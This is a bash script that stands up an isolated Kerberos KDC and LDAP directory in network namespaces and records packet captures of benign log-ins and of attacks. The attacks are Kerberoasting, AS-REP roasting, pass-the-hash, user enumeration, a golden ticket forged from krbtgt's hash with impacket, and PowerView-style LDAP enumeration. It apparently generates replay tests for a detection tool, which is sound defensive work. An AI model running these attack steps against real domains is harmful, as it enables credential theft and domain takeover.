#!/bin/bash
# SPDX-License-Identifier: MIT
# kerberos.sh SCENARIO...|all|list: log-ins, tickets and attacks on a real key distribution centre and a real directory,
# between the namespaces of ns.sh, recorded at the gateway into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump ethtool iproute2 krb5-kdc krb5-admin-server krb5-user slapd ldap-utils python3
# python3-impacket nmap.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
replay=$here/../replay
export XFL_PREFIX=${XFL_PREFIX:-krb}
cli=(ip netns exec "$XFL_PREFIX-cli") gw=(ip netns exec "$XFL_PREFIX-gw") srv=(ip netns exec "$XFL_PREFIX-srv")
kdc=10.20.2.20
realm=CORP.EXAMPLE.TEST
dir=
pids=()

cleanup() {
    local pid
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    "$here/ns.sh" down
    [ -z "$dir" ] || rm -rf "$dir"
}

principals() {
    local name
    local -a aes=(-e "aes256-cts-hmac-sha1-96:normal,aes128-cts-hmac-sha1-96:normal") rc4=(-e arcfour-hmac:normal)
    kdb5_util create -s -r "$realm" -P master >/dev/null 2>&1
    for name in alice bob carol dave; do
        echo "addprinc +requires_preauth ${aes[*]},arcfour-hmac:normal -pw Summer-$name-1 $name"
    done
    for name in eve frank grace; do echo "addprinc -requires_preauth ${aes[*]},arcfour-hmac:normal -pw Winter-$name-1 $name"; done
    for name in HTTP/intranet MSSQLSvc/db1.corp.example.test:1433 MSSQLSvc/db2.corp.example.test:1433 backup/nas; do
        echo "addprinc ${rc4[*]} -pw Service-1 $name"
    done
    for name in HTTP/portal host/files cifs/files imap/mail; do echo "addprinc ${aes[*]} -pw Service-2 $name"; done
}

start_kdc() {
    mkdir -p "$dir/kdc"
    cat >"$dir/krb5.conf" <<CONF
[libdefaults]
 default_realm = $realm
 dns_lookup_kdc = false
 dns_lookup_realm = false
 rdns = false
 dns_canonicalize_hostname = false
 allow_rc4 = true
 allow_weak_crypto = true
[realms]
 $realm = {
  kdc = $kdc
 }
CONF
    cat >"$dir/kdc.conf" <<CONF
[kdcdefaults]
 kdc_listen = $kdc:88
 kdc_tcp_listen = $kdc:88
[realms]
 $realm = {
  database_name = $dir/kdc/principal
  key_stash_file = $dir/kdc/stash
  acl_file = $dir/kdc/acl
  supported_enctypes = aes256-cts-hmac-sha1-96:normal aes128-cts-hmac-sha1-96:normal arcfour-hmac:normal
 }
[logging]
 kdc = FILE:$dir/kdc.log
CONF
    export KRB5_CONFIG=$dir/krb5.conf KRB5_KDC_PROFILE=$dir/kdc.conf KRB5CCNAME=FILE:$dir/cc
    principals >"$dir/adds"
    kadmin.local -r "$realm" <"$dir/adds" >"$dir/kadmin.log" 2>&1
    "${srv[@]}" krb5kdc -n -P "$dir/kdc.pid" >"$dir/krb5kdc.out" 2>&1 &
    pids+=($!)
    sleep 1
}

start_directory() {
    local i
    mkdir -p "$dir/ldap"
    cat >"$dir/slapd.conf" <<CONF
include /etc/ldap/schema/core.schema
include /etc/ldap/schema/cosine.schema
include /etc/ldap/schema/inetorgperson.schema
attributetype ( 1.3.6.1.4.1.55555.1 NAME 'servicePrincipalName' EQUALITY caseIgnoreMatch SYNTAX 1.3.6.1.4.1.1466.115.121.1.15 )
attributetype ( 1.3.6.1.4.1.55555.2 NAME 'userAccountControl' EQUALITY integerMatch SYNTAX 1.3.6.1.4.1.1466.115.121.1.27 )
attributetype ( 1.3.6.1.4.1.55555.3 NAME 'adminCount' EQUALITY integerMatch SYNTAX 1.3.6.1.4.1.1466.115.121.1.27 )
attributetype ( 1.3.6.1.4.1.55555.4 NAME 'sAMAccountName' EQUALITY caseIgnoreMatch SYNTAX 1.3.6.1.4.1.1466.115.121.1.15 )
attributetype ( 1.3.6.1.4.1.55555.5 NAME 'sAMAccountType' EQUALITY integerMatch SYNTAX 1.3.6.1.4.1.1466.115.121.1.27 )
objectclass ( 1.3.6.1.4.1.55555.9 NAME 'user' SUP inetOrgPerson STRUCTURAL MAY ( servicePrincipalName \$ userAccountControl \$ adminCount \$ sAMAccountName \$ sAMAccountType ) )
pidfile $dir/slapd.pid
modulepath /usr/lib/ldap
moduleload back_mdb
database mdb
suffix "dc=corp,dc=example,dc=test"
rootdn "cn=admin,dc=corp,dc=example,dc=test"
rootpw admin-1
directory $dir/ldap
CONF
    {
        printf 'dn: dc=corp,dc=example,dc=test\nobjectClass: domain\ndc: corp\n\n'
        printf 'dn: ou=people,dc=corp,dc=example,dc=test\nobjectClass: organizationalUnit\nou: people\n\n'
        for i in $(seq 60); do
            printf 'dn: uid=u%d,ou=people,dc=corp,dc=example,dc=test\nobjectClass: user\nuid: u%d\ncn: Person %d\nsn: P%d\n' "$i" "$i" "$i" "$i"
            printf 'mail: u%d@example.test\nsAMAccountName: u%d\nsAMAccountType: 805306368\nuserAccountControl: 512\nuserPassword: pass-%d\n\n' "$i" "$i" "$i"
        done
    } >"$dir/people.ldif"
    slapadd -q -f "$dir/slapd.conf" -l "$dir/people.ldif" >/dev/null 2>&1
    "${srv[@]}" slapd -d 0 -f "$dir/slapd.conf" -h "ldap://$kdc" >"$dir/slapd.out" 2>&1 &
    pids+=($!)
    sleep 1
}

as() { # password principal [kinit options]: a log-in
    local password=$1
    shift
    echo "$password" | "${cli[@]}" kinit "$@" >/dev/null 2>&1 || true
}

ask() { "${cli[@]}" kvno -q "$@" >/dev/null 2>&1 || true; }

# ---- scenarios ----

krb_roast() { # a user's log-in, then tickets for four services by account, asked in RC4 first (as Rubeus and GetUserSPNs ask)
    as Summer-alice-1 alice
    sed 's/^\[libdefaults\]/&\n default_tgs_enctypes = arcfour-hmac aes256-cts-hmac-sha1-96/' "$dir/krb5.conf" >"$dir/roast.conf"
    KRB5_CONFIG=$dir/roast.conf ask HTTP/intranet MSSQLSvc/db1.corp.example.test:1433 MSSQLSvc/db2.corp.example.test:1433 backup/nas
}

krb_asrep() { # three accounts without pre-authentication among six names (as GetNPUsers asks)
    as Summer-alice-1 alice
    "${cli[@]}" /usr/bin/python3 "$here/kerberos_ask.py" asrep "$kdc" "$realm" bob eve carol frank dave grace
}

krb_hash() { # a log-in with AES, then one with the NT hash from the same client
    as Summer-bob-1 bob
    "${cli[@]}" /usr/bin/python3 "$here/kerberos_ask.py" hash "$kdc" "$realm" alice Summer-alice-1
}

krb_users() { # nmap's krb5-enum-users with 40 names, 4 of which exist
    { printf 'alice\nbob\neve\nadministrator\n' && seq -f 'guess%g' 37; } >"$dir/users"
    "${cli[@]}" nmap -n -Pn -p 88 --script krb5-enum-users \
        --script-args "krb5-enum-users.realm=$realm,userdb=$dir/users" "$kdc" >"$dir/nmap.log" 2>&1 || true
}

krb_golden() { # people log in; then a ticket made of krbtgt's NT hash gets one for a service
    local key name
    kadmin.local -r "$realm" -q "cpw -randkey krbtgt/$realm" >/dev/null # ticketer writes the number of its second key
    kadmin.local -r "$realm" -q "ktadd -norandkey -k $dir/krbtgt.keytab krbtgt/$realm" >/dev/null
    key=$(klist -k -K -e "$dir/krbtgt.keytab" | sed -n 's/^ *2 .*arcfour-hmac.*(0x\([0-9a-f]*\)).*/\1/p')
    for name in alice bob carol dave; do
        as "Summer-$name-1" "$name"
        ask HTTP/portal
    done
    "${cli[@]}" kdestroy
    cd "$dir"
    "${cli[@]}" /usr/bin/python3 /usr/share/doc/python3-impacket/examples/ticketer.py -nthash "$key" \
        -domain-sid S-1-5-21-1004336348-1177238915-682003330 -domain "$realm" administrator
    KRB5CCNAME=$dir/administrator.ccache "${cli[@]}" timeout 20 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/getST.py \
        -k -no-pass -dc-ip "$kdc" -spn HTTP/portal "$realm/administrator"
    cd "$here"
}

benign_kerberos() { # log-ins with a wrong password between, tickets for services, one of which can only RC4
    as Summer-alice-1 alice
    ask HTTP/portal host/files cifs/files imap/mail
    as wrong bob
    as Summer-bob-1 bob
    ask HTTP/portal cifs/files
    as Winter-eve-1 eve # needs no pre-authentication, as MIT accounts do by default
    as Summer-nobody-1 nobdoy
    "${cli[@]}" kdestroy >/dev/null 2>&1
}

benign_ldap() { # an address book and a mail server look people up, an administrator changes one
    local base=ou=people,dc=corp,dc=example,dc=test i
    local -a ldap=(-x -H "ldap://$kdc" -LLL)
    for i in 3 7 11; do
        "${cli[@]}" ldapsearch "${ldap[@]}" -b "$base" "(&(objectClass=inetOrgPerson)(mail=u$i@example.test))" cn mail
        "${cli[@]}" ldapsearch "${ldap[@]}" -D "uid=u$i,$base" -w "pass-$i" -b "$base" "(uid=u$i)" cn
    done
    "${cli[@]}" ldapsearch "${ldap[@]}" -D "uid=u3,$base" -w wrong -b "$base" "(uid=u3)" cn || true
    printf 'dn: uid=u3,%s\nchangetype: modify\nreplace: sn\nsn: Q3\n' "$base" |
        "${cli[@]}" ldapmodify -x -H "ldap://$kdc" -D cn=admin,dc=corp,dc=example,dc=test -w admin-1
}

ldap_enumeration() { # what PowerView, BloodHound and ldapsearch ask for
    local base=dc=corp,dc=example,dc=test
    local -a ldap=("${cli[@]}" ldapsearch -x -H "ldap://$kdc" -D "uid=u5,ou=people,$base" -w pass-5 -LLL -E pr=1000/noprompt)
    "${ldap[@]}" -b "$base" '(&(samAccountType=805306368)(servicePrincipalName=*))' sAMAccountName servicePrincipalName
    "${ldap[@]}" -b "$base" '(&(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=4194304))' sAMAccountName
    "${ldap[@]}" -b "$base" '(adminCount=1)' sAMAccountName
    "${ldap[@]}" -b "$base" '(objectClass=*)'
}

record() { # scenario
    local pid
    "${gw[@]}" tcpdump --immediate-mode -q -Z root -i gin -U -s 0 -w "$dir/$1.pcap" 'not arp and not icmp6' >/dev/null 2>"$dir/tcpdump.log" &
    pid=$!
    sleep 0.7
    "$1" >"$dir/$1.log" 2>&1 || { cat "$dir/$1.log" >&2; echo "$1 failed" >&2; }
    sleep 0.7
    kill "$pid"
    wait "$pid" || true
    mkdir -p "$replay/$1"
    cp "$dir/$1.pcap" "$replay/$1/input.pcap"
    ls -l "$replay/$1/input.pcap"
}

all=(krb_roast krb_asrep krb_hash krb_users krb_golden benign_kerberos benign_ldap ldap_enumeration)
[ "${1:-list}" = list ] && { printf '%s\n' "${all[@]}"; exit 0; }
[ "$1" = all ] && set -- "${all[@]}"
trap cleanup EXIT
"$here/ns.sh" up
dir=$(mktemp -d)
start_kdc
start_directory
for scenario; do record "$scenario"; done
